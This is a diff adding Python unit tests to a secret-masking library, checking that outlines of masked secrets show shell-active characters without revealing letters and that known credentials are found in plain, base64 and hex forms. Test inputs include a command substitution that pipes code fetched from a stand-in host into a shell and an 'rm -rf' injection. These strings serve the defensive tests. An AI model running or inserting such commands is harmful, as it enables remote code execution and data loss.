@@ -1,5 +1,6 @@
 """What is masked, what is not, and how a mask looks."""
 
+import base64
 import json
 import re
 import time
@@ -8,7 +9,7 @@ import pytest
 from pydantic import JsonValue
 
 from curtainwall.facts.mask_streams import StreamMasker
-from curtainwall.facts.masks import Masker, contains_mask
+from curtainwall.facts.masks import Masker, contains_mask, outline_of
 from curtainwall.facts.refusal import Unclear
 from curtainwall.facts.secret_names import is_secret_key
 
@@ -342,3 +343,47 @@ def test_a_megabyte_of_malice_takes_a_moment(unit: str) -> None:
     once = MASKER.mask_text(text)
     assert time.process_time() - begun < 5
     assert MASKER.mask_text(once) == once
+
+
+@pytest.mark.parametrize(
+    ("secret", "outline"),
+    [
+        ("hunter22", "letters and digits"),
+        ("Tr0ub4dor-and/3=", "letters and digits"),
+        ("é" * 8, "letters and digits"),
+        ("$(curl${IFS}evil.example.org|sh)1", "$(…${…}…|…)…"),
+        ("a; rm -rf b", "…; … … …"),
+        (f"-----BEGIN PRIVATE KEY-----\n{BODY}-----END PRIVATE KEY-----", "… … …\n… … …"),
+        ("-----BEGIN PRIVATE KEY-----\nrm x\n-----END PRIVATE KEY-----", "… … …\n… …\n… … …"),
+    ],
+)
+def test_an_outline_shows_what_could_act_and_none_of_the_letters(secret: str, outline: str) -> None:
+    assert outline_of(secret) == outline
+
+
+def test_a_long_outline_is_cut_and_says_so() -> None:
+    assert outline_of("!a" * 300).endswith("…[200 characters cut]")
+
+
+def test_outlines_are_told_for_each_mask_at_any_depth() -> None:
+    value: JsonValue = {
+        "content": f"password = 'hun$ter22'\nghp_{LONG}",
+        "env": [{"name": "API_TOKEN", "value": "a|b"}, 7],
+        f"ghp_{LONG}": None,
+    }
+    outlines = MASKER.outlines(value, MASKER.mask_json(value))
+    assert {mask.split(":")[1]: outline for mask, outline in outlines.items()} == {
+        "password": "…$…",
+        "github-token": "letters and digits",
+        "token": "…|…",
+    }
+    assert MASKER.outlines({"a": ["plain"]}, {"a": ["plain"]}) == {}
+
+
+def test_a_known_credential_is_named_in_every_spelling_and_an_ordinary_word_is_not() -> None:
+    masker = Masker(b"key", {"shop": "kept-in-the-config-7531", "pgpassword": "postgres", "phrase": "correct horse battery"})
+    for spelling in ("kept-in-the-config-7531", base64.b64encode(b"kept-in-the-config-7531").decode(), b"kept-in-the-config-7531".hex()):
+        assert masker.credential_in({"a": [{"b": f"x {spelling} y"}]}) == "shop"
+        assert masker.credential_in({f"x {spelling}": 1}) == "shop"
+    assert masker.credential_in("a correct horse battery") == "phrase"
+    assert masker.credential_in({"image": "postgres:17", "n": 1, "none": None}) is None
